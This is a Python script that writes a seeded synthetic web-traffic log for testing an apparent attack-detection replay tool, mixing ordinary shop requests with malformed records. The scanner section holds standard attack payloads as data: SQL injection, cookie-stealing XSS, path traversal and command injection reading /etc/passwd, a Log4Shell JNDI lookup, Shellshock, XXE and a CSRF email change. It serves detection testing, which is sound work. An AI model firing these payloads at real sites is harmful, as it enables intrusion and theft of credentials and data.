#!/usr/bin/env python3
"""Writes examples/sample.jsonl: a recorded evidence stream for `sentinel replay`.

Deterministic (seeded). About ten minutes of a small shop's traffic:
ordinary customers (with a few hard negatives such as "O'Brien"), a scanner
that tries every injection class against the shop at high rate, a one-off
SQL injection, a cross-site request forgery, one late event, and malformed
records (truncated JSON, binary garbage, invalid fields, invalid UTF-8) that
must land in the dead-letter sink.

Usage: python3 examples/make_sample.py > examples/sample.jsonl
"""
import json
import random
import sys

rng = random.Random(20261126)
T0 = 1_767_225_600_000  # 2026-01-01T00:00:00Z
events = []
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
]
SEARCHES = ["red shoes", "O'Brien", "winter jacket", "select the best gift from our shop",
            "tea & biscuits", "50% off", "café crème", "size 42", "\"blue\" dress", "C# book"]


def ev(eid, t, ip, method, target, headers=None, body=None, status=200, tags=None):
    e = {
        "evidence_id": eid,
        "event_time_ms": t,
        "client": {"ip": ip},
        "request": {"method": method, "target": target, "version": "HTTP/1.1",
                    "headers": [{"name": "Host", "value": "shop.example"}] + (headers or [])},
        "response": {"status": status},
    }
    if body is not None:
        e["request"]["body"] = body
    if tags:
        e["tags"] = tags
    events.append(e)


# Customers.
n = 0
for c in range(6):
    ip = f"203.0.113.{10 + c}"
    ua = UAS[c % len(UAS)]
    sid = f"{rng.getrandbits(64):016x}"
    t = T0 + c * 7_000
    for _ in range(rng.randint(25, 40)):
        t += rng.randint(1_500, 20_000)
        n += 1
        h = [{"name": "User-Agent", "value": ua}, {"name": "Cookie", "value": f"sid={sid}"},
             {"name": "Accept", "value": "text/html,application/xhtml+xml"}]
        kind = rng.random()
        if kind < 0.35:
            ev(f"cust-{n}", t, ip, "GET", f"/products?id={rng.randint(1, 400)}&sort=price", h)
        elif kind < 0.6:
            q = rng.choice(SEARCHES).replace(" ", "+").replace("'", "%27").replace("&", "%26").replace("%", "%25", 0)
            ev(f"cust-{n}", t, ip, "GET", f"/search?q={q}", h)
        elif kind < 0.75:
            ev(f"cust-{n}", t, ip, "POST", "/cart", h + [
                {"name": "Content-Type", "value": "application/x-www-form-urlencoded"},
                {"name": "Origin", "value": "https://shop.example"},
                {"name": "X-CSRF-Token", "value": f"{rng.getrandbits(96):024x}"}],
                f"item={rng.randint(1, 400)}&qty={rng.randint(1, 3)}")
        elif kind < 0.85:
            body = json.dumps({"items": [{"id": rng.randint(1, 400), "qty": 1}],
                               "note": rng.choice(["leave at the door", "gift wrap please", "ring twice"]),
                               "address": {"street": "Rue de l'Église 5", "city": "Liège"}})
            ev(f"cust-{n}", t, ip, "POST", "/api/orders", h + [
                {"name": "Content-Type", "value": "application/json"},
                {"name": "Origin", "value": "https://shop.example"}], body, status=201)
        else:
            ev(f"cust-{n}", t, ip, "GET", rng.choice(["/", "/about", "/static/app.js", "/favicon.ico", "/help/faq"]), h,
               status=rng.choice([200, 200, 304, 404]))

# A scanner trying every class, fast, collecting errors.
SCAN = [
    ("GET", "/products?id=1%27%20OR%20%271%27%3D%271", None, None),
    ("GET", "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", None, None),
    ("GET", "/products?id=1%20AND%20SLEEP(5)", None, None),
    ("GET", "/products?id=1;DROP%20TABLE%20orders", None, None),
    ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", None, None),
    ("GET", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", None, None),
    ("GET", "/search?q=javascript:alert(1)", None, None),
    ("GET", "/download?file=../../../../etc/passwd", None, None),
    ("GET", "/download?file=..%252f..%252f..%252fwindows%252fwin.ini", None, None),
    ("GET", "/tools/ping?host=127.0.0.1;cat%20/etc/passwd", None, None),
    ("GET", "/tools/ping?host=127.0.0.1%7Cwhoami", None, None),
    ("GET", "/", [{"name": "User-Agent", "value": "${jndi:ldap://198.51.100.23:1389/a}"}], None),
    ("GET", "/cgi-bin/status", [{"name": "User-Agent", "value": "() { :; }; /bin/bash -c 'id'"}], None),
    ("POST", "/api/import", [{"name": "Content-Type", "value": "application/xml"}],
     '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><name>&x;</name></r>'),
    ("POST", "/api/orders", [{"name": "Content-Type", "value": "application/json"}],
     json.dumps({"note": "' OR 1=1--", "items": []})),
    ("GET", "/search?q={{7*7}}", None, None),
]
t = T0 + 200_000
ua = "sqlmap/1.8 (https://sqlmap.org)"
for i in range(3):
    for method, target, extra, body in SCAN:
        t += rng.randint(80, 250)
        n += 1
        h = [{"name": "User-Agent", "value": ua}] if not extra or extra[0]["name"] != "User-Agent" else []
        h += extra or []
        ev(f"scan-{n}", t, "198.51.100.23", method, target, h, body, status=rng.choice([404, 500, 403, 200]))

# A one-off SQL injection from a quiet client.
ev("oneoff-sqli", T0 + 300_000, "192.0.2.77", "GET", "/products?id=5%27%20or%20%27a%27%3D%27a",
   [{"name": "User-Agent", "value": UAS[0]}])

# Cross-site request forgery: a state change from another site with the victim's cookie.
ev("csrf-email-change", T0 + 320_000, "203.0.113.12", "POST", "/account/email",
   [{"name": "User-Agent", "value": UAS[1]}, {"name": "Cookie", "value": "sid=5f2a9c"},
    {"name": "Origin", "value": "https://evil.example.net"},
    {"name": "Content-Type", "value": "application/x-www-form-urlencoded"}],
   "email=attacker%40evil.example.net")

events.sort(key=lambda e: e["event_time_ms"])
# One event arrives a minute late (its recorder was behind).
late = {"evidence_id": "late-arrival", "event_time_ms": T0 + 250_000, "client": {"ip": "203.0.113.99"},
        "request": {"method": "GET", "target": "/search?q=late+but+fine", "headers": [{"name": "Host", "value": "shop.example"}]}}
lines = [json.dumps(e, ensure_ascii=False).encode() for e in events]
lines.insert(len(lines) - 5, json.dumps(late).encode())
# Malformed records, interleaved.
bad = [
    b'{"evidence_id":"truncated","event_time_ms":1767225700000,"request":{"method":"GET","tar',
    bytes(range(0, 256, 7)) + b"\xff\xfe binary garbage",
    b'{"evidence_id":"","event_time_ms":1767225700000,"request":{"method":"GET","target":"/"}}',
    b'{"evidence_id":42,"event_time_ms":1767225700000,"request":{"method":"GET","target":"/"}}',
    b'{"evidence_id":"bad-utf8","event_time_ms":1767225700000,"request":{"method":"GET","target":"/\xc3\x28"}}',
]
for i, b in enumerate(bad):
    lines.insert(40 + i * 37, b)
sys.stdout.buffer.write(b"\n".join(lines) + b"\n")
